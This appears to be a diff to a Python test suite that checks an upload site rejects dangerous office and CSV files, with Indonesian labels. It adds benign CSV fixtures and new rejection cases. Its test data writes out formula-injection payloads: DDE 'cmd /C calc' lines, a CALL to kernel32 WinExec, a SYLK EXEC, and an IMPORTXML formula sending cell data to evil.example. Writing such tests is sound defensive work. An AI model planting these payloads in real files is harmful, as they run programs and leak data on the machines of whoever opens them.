@@ -696,7 +696,9 @@ def test_office_97_files_and_embedded_objects_without_macros_are_published(site)
         "paparan.ppt": ole_file({"PowerPoint Document": ppt_stream(ole_file({"Workbook": biff_workbook(("Data", 0))})),
                                  "Current User": b"\0" * 20}),
         "undangan.doc": ole_file({**WORD_97, "WordDocument": word_stream(b"Halaman \x13 PAGE \x14 1\x15 dari 3")}),
-        "rekap.csv": "nama,selisih,catatan\nBudi,-12,naik|turun\nSiti,+5,\"=rata-rata\"\nAni,0,- pagi | sore\n".encode(),
+        "rekap.csv": ("nama,selisih,catatan\nBudi,-12,naik|turun\nSiti,+5,\"=rata-rata\"\nAni,0,- pagi | sore\n"
+                      "Dedi,1,- Rp 1.500.000 | realisasi 80%!\nEka,2,- hyperlink (tautan) menyusul\n"
+                      "Fitri,3,- Jl. Merdeka No. 1 | Telp (0282) 521119 | Buka!\n").encode(),
         "nota.docx": ooxml({"word/document.xml": "<w:document><w:r><w:instrText> PA</w:instrText></w:r>"
                                                  "<w:r><w:instrText>GE </w:instrText></w:r></w:document>"}),
         # Part names in another case, as some generators write them: Office reads them alike.
@@ -799,6 +801,8 @@ def split_sst(*strings: str) -> bytes:
     ("tautan.csv", b'kode,nilai\n1,"=HYPERLINK(""https://bansos-sukamaju.example/daftar"",""Daftar bansos"")"\n',
      "membuat tautan"),
     ("impor.csv", b'kode,nilai\n1,=IMPORTXML("https://evil.example/?"&A1;"//a")\n', "memuat alamat lain"),
+    ("dde-spasi.csv", b"kode,nilai\n1,=cmd |' /C calc'!A0\n", "menjalankan program"),
+    ("panggil.csv", b'kode,nilai\n1,"=CALL(""kernel32"",""WinExec"",""JJ"",""calc"",0)"\n', "menjalankan program"),
     ("sylk-bom.csv", b"\xef\xbb\xbfID;P\nC;X1;Y1;EEXEC(\"calc\")\nE\n", "isinya bukan berkas CSV"),
     ("dde-sel.xls", ole_file({"Workbook": biff_workbook(("Rekap", 0), links=((0, "cmd\x03 /C calc"),))}), "tautan DDE"),
     ("tautan-jaringan.xls", ole_file({"Workbook": biff_workbook(
